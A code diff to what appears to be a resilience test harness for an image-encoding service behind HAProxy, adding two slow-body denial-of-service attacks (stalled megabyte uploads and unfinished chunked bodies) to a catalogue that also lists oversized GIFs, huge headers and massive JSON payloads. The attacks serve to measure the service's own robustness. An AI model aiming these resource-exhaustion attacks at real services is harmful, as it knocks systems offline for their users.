@@ -24,11 +24,12 @@ Attack = Callable[[str, int], Awaitable[Counter[str]]]
 COLUMNS = ("attack", "its answers", "readiness at worst, s", "others' p50 before, ms", "during", "others failed")
 SECONDS = 25.0
 GIF_SIDE, GIF_FRAMES, GIF_CONNECTIONS = 6000, 41, 12
-SLOW_BODIES, IDLE_CONNECTIONS = 600, 500
+SLOW_BODIES, LARGE_SLOW_BODIES, IDLE_CONNECTIONS = 600, 1400, 500
 HEADER_BYTES, HEADER_LINES = 200_000_000, 1_000_000
 JSON_KEYS, JSON_REQUESTS = 600_000, 16
 ANSWER_SECONDS = 90.0
 PIECE_BYTES = 2**20
+UPLOAD = b"POST /encode HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\n"
 PICTURE = encode_image(np.arange(64 * 64 * 3, dtype=np.uint32).reshape(1, 64, 64, 3).astype(np.uint8), "image/png")
 
 
@@ -66,8 +67,20 @@ async def gif(host: str, port: int) -> Counter[str]:
 
 async def slow_bodies(host: str, port: int) -> Counter[str]:
     """Begin more requests than the service has places for, and never finish their bodies."""
-    head = b"POST /encode HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\nContent-Length: 5000\r\n\r\n\x89PNG"
+    head = UPLOAD + b"Content-Length: 5000\r\n\r\n\x89PNG"
     return await _all([_exchange(host, port, head) for _ in range(SLOW_BODIES)])
+
+
+async def large_slow_bodies(host: str, port: int) -> Counter[str]:
+    """Begin bodies of a megabyte, too large for HAProxy to wait for, and never finish them."""
+    head = UPLOAD + b"Content-Length: 1000000\r\n\r\n\x89PNG"
+    return await _all([_exchange(host, port, head) for _ in range(LARGE_SLOW_BODIES)])
+
+
+async def chunked_bodies(host: str, port: int) -> Counter[str]:
+    """Begin bodies in chunks, and never finish them."""
+    head = UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n4\r\n\x89PNG\r\n"
+    return await _all([_exchange(host, port, head) for _ in range(LARGE_SLOW_BODIES)])
 
 
 async def idle_connections(host: str, port: int) -> Counter[str]:
@@ -100,6 +113,8 @@ async def json_keys(host: str, port: int) -> Counter[str]:
 ATTACKS: dict[str, Attack] = {
     "gif": gif,
     "slow-bodies": slow_bodies,
+    "large-slow-bodies": large_slow_bodies,
+    "chunked-bodies": chunked_bodies,
     "idle-connections": idle_connections,
     "large-header": large_header,
     "many-headers": many_headers,
